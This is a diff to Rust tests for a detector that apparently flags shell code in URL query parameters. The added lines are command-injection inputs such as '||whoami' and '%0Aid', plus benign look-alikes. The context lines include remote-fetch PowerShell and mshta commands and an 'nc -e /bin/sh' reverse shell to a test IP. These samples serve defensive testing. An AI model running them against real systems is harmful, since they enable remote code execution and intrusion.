@@ -84,6 +84,10 @@ fn shell_invocations_are_shell() {
         "r=;reg+add+HKLM\\Software\\x",
         "x=powershell+-enc+SQBFAFgA",
         "c=Invoke-Expression+(iwr+http://198.51.100.7/a)",
+        "ip=%24(id)",
+        "ip=127.0.0.1%0Aid",
+        "ip=x||whoami",
+        "ip=x%26%26ls+-la",
     ] {
         assert_eq!(query(q), Some("shell"), "{q}");
     }
@@ -185,6 +189,11 @@ fn ordinary_parameters_are_not_code() {
         "html=%3Cmeta+http-equiv%3D%22X-UA-Compatible%22%3E",
         "q=file+type+C:%5CTemp",
         "text=%7B%7B%23expr:+60*60*24%7D%7D",
+        "fields=name;id;email",
+        "js=%24(document).ready(init)",
+        "note=my+pet%0Acat",
+        "q=true||false",
+        "q=Tom+%26%26+Jerry",
     ] {
         assert_eq!(query(q), None, "{q}");
     }
@@ -386,6 +395,7 @@ const ONE_PER_PATTERN: &[&str] = &[
     "iex(New-Object Net.WebClient)",
     "mshta http://198.51.100.7/a.hta",
     "nc -e /bin/sh 198.51.100.7 4444",
+    "x||whoami",
     "<?php echo 1; ?>",
     "$_GET['x']",
     "phpinfo()",
